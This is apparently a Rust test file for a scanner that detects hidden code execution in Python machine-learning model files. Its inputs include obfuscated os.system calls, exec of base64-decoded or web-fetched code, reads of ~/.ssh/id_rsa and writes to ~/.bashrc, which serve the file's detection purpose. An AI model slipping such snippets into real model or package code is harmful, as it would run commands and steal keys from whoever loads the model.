use stance_core::fact::{EmbeddedKind, Fact};

use crate::testing::report;

/// When and what a file calls, as far as it is told.
fn told(path: &str, source: &str) -> Vec<(String, String)> {
    let report = report(path, source.as_bytes());
    let mut found = Vec::new();
    for (_, fact) in &report.facts {
        if let Fact::Artifact(artifact) = fact {
            for call in &artifact.embedded {
                assert_eq!(call.kind, EmbeddedKind::ModelCode);
                found.push((call.name.clone(), call.detail.clone()));
            }
        }
    }
    found
}

fn one(source: &str) -> (String, String) {
    let found = told("modeling_x.py", source);
    found.last().cloned().unwrap_or_else(|| panic!("{source}"))
}

#[test]
fn the_moment_of_a_call_is_known() {
    assert_eq!(
        one("import os\nos.system('id')\n"),
        ("import".into(), "os.system(\"id\")".into())
    );
    assert_eq!(
        one("import os\nclass A:\n    x = os.system('id')\n").0,
        "import"
    );
    assert_eq!(one("import os\ndef go():\n    os.system('id')\n").0, "go");
    assert_eq!(
        one("import os\ndef go():\n    os.system('id')\ndef start():\n    go()\nstart()\n").0,
        "import"
    );
    assert_eq!(
        one("import os\ntry:\n    os.system('id')\nexcept Exception:\n    pass\n").0,
        "import"
    );
    assert_eq!(one("import os\nx = lambda: os.system('id')\n").0, "import");
}

#[test]
fn ways_around_a_name_are_followed() {
    for source in [
        "__import__('os').system('id')\n",
        "import importlib\nimportlib.import_module('os').system('id')\n",
        "import importlib as i\nm = i.import_module('o' + 's')\nm.system('id')\n",
        "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
        "import os as o\nf = o.system\nf('id')\n",
        "from os import system as s\ns('id')\n",
        "import functools, os\nfunctools.partial(os.system, 'id')()\n",
        "getattr(__import__('os'), 'system')('id')\n",
    ] {
        assert!(
            one(source).1.starts_with("os.system("),
            "{source}: {:?}",
            one(source)
        );
    }
    assert!(
        one("__builtins__['exec']('1')\n")
            .1
            .contains("__builtins__")
    );
    assert!(
        one("import sys\nsys.modules['os'].system('id')\n")
            .1
            .starts_with("sys.modules.")
    );
}

#[test]
fn what_is_evaluated_is_shown() {
    assert_eq!(
        one("import base64\nexec(base64.b64decode('aWQ='))\n").1,
        "exec(base64.b64decode())"
    );
    assert_eq!(
        one("import requests\nexec(requests.get('http://x').text)\n").1,
        "exec(requests.get().text)"
    );
}

#[test]
fn paths_are_shown_as_they_are_written() {
    for source in [
        "from pathlib import Path\nk = (Path.home() / '.ssh' / 'id_rsa').read_text()\n",
        "from pathlib import Path\nk = Path.home().joinpath('.ssh', 'id_rsa')\n",
        "import os\nk = os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')\n",
        "import os\nk = open(f'{os.environ[\"HOME\"]}/.ssh/id_rsa').read()\n",
        "from pathlib import Path\nk = open(Path.home() / '.ssh/id_rsa')\n",
    ] {
        let found = told("modeling_x.py", source);
        assert!(
            found.iter().any(|(_, call)| call.contains("id_rsa")),
            "{source}: {found:?}"
        );
    }
    let honest = "import os\nfrom pathlib import Path\nx = os.path.join(a, 'vocab.json')\ny = Path(a) / 'b'\n";
    assert!(told("modeling_x.py", honest).is_empty());
}

#[test]
fn only_code_of_models_is_read() {
    let source = "import os\nos.system('id')\n";
    assert!(told("deploy.py", "import torch\ntorch.load('x')\n").is_empty());
    assert!(told("tests/deploy.py", source).is_empty());
    assert!(told("test_deploy.py", source).is_empty());
    // Another file may say that it belongs to a model.
    let unbound = |name: &str, source: &str| {
        report(name, source.as_bytes()).facts.iter().any(|(_, fact)| {
            matches!(fact, Fact::Artifact(artifact) if artifact.metadata.contains_key(super::UNBOUND))
        })
    };
    assert!(unbound("deploy.py", source));
    let handler = format!("{source}class EndpointHandler:\n    pass\n");
    assert!(!told("handler.py", &handler).is_empty());
    let served =
        "from ts.torch_handler.base_handler import BaseHandler\nclass H(BaseHandler):\n    pass\n";
    assert!(!told("served.py", &format!("{served}{source}")).is_empty());
    let other = format!("class H(BaseHandler):\n    pass\n{source}");
    assert!(unbound("request.py", &other));
    let program = format!(
        "{source}class M(PreTrainedModel):\n    pass\nif __name__ == '__main__':\n    M()\n"
    );
    assert!(unbound("train.py", &program));
    assert!(!unbound("modeling_m.py", &program));
    assert!(!told("modeling_m.py", &program).is_empty());
    assert!(!unbound("hubconf.py", source));
    assert!(!told("hubconf.py", source).is_empty());
}

#[test]
fn functions_that_are_handed_over_and_files_behind_expressions_are_told() {
    for (source, call) in [
        (
            "import atexit, os\natexit.register(os.system, 'id')\n",
            "atexit.register(os.system, \"id\")",
        ),
        (
            "import pathlib\n(pathlib.Path.home() / '.bashrc').open('a').write('x')\n",
            "open('a' (pathlib.Path.home() / '.bashrc').open)",
        ),
        (
            "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'x.so'))\n",
            "ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'x.so'))",
        ),
    ] {
        let found = told("modeling_x.py", source);
        assert!(found.iter().any(|(_, told)| told == call), "{found:?}");
    }
    let asked = "import subprocess\ndef f(x):\n    return isinstance(x, subprocess.Popen)\n";
    assert!(told("modeling_x.py", asked).is_empty());
    let image = "from PIL import Image\ndef f(x):\n    return Image.open(x)\n";
    assert!(told("modeling_x.py", image).is_empty());
}

#[test]
fn packages_that_nobody_knows_are_told_when_called_for_their_effect() {
    let found = told(
        "modeling_x.py",
        "from corp.agent import start\nstart('.')\n",
    );
    assert_eq!(found[0].0, "import of a foreign package");
    for source in [
        "from .helper import start\nstart()\n",
        "from transformers import AutoConfig\nAutoConfig.register('x', 1)\n",
        "from corp.agent import start\nx = start()\n",
        "from corp.agent import start\ndef f():\n    start()\n",
    ] {
        assert!(told("modeling_x.py", source).is_empty(), "{source}");
    }
}

#[test]
fn broken_and_long_code_is_survived() {
    for source in ["def (", "class X(:\n os.system('a'", "\u{0}", "exec("] {
        told("modeling_x.py", source);
    }
    let long = "import os\n".to_owned() + &"os.system('id')\n".repeat(30_000);
    assert_eq!(told("modeling_x.py", &long).len(), 64);
    // Functions that call each other in a row end after a fixed number of rounds.
    let row: String = (0..5000)
        .map(|nth| format!("def f{nth}():\n    f{}()\n", nth + 1))
        .collect();
    told("modeling_x.py", &(row + "f0()\n"));
}

#[test]
fn what_only_runs_in_a_file_that_is_started_is_told_as_such() {
    let body = "    os.system('id')\n    class A:\n        x = os.popen('id')\n";
    for test in [
        "__name__ == '__main__'",
        "'__main__' == __name__",
        "__name__ == '__main__' and True",
    ] {
        let found = told("modeling_x.py", &format!("import os\nif {test}:\n{body}"));
        assert_eq!(found.len(), 2, "{found:?}");
        assert!(
            found.iter().all(|(moment, _)| moment == super::MAIN),
            "{found:?}"
        );
    }
    // What stands beside the block, what it defines and another calls, and what a file decides itself.
    for source in [
        "if __name__ != '__main__':\n    os.system('id')\n",
        "if __name__ == '__main__':\n    pass\nelse:\n    os.system('id')\n",
        "if __name__ == '__main__' or True:\n    os.system('id')\n",
        "__name__ = '__main__'\nif __name__ == '__main__':\n    os.system('id')\n",
        "for __name__ in ['__main__']:\n    pass\nif __name__ == '__main__':\n    os.system('id')\n",
        "vars()['__name__'] = '__main__'\nif __name__ == '__main__':\n    os.system('id')\n",
    ] {
        let found = told("modeling_x.py", &format!("import os\n{source}"));
        assert!(
            found.iter().any(|(moment, _)| moment == "import"),
            "{source}"
        );
    }
    let called = "import os\ndef f():\n    os.system('id')\nif __name__ == '__main__':\n    f()\n";
    assert_eq!(told("modeling_x.py", called)[0].0, "f");
}
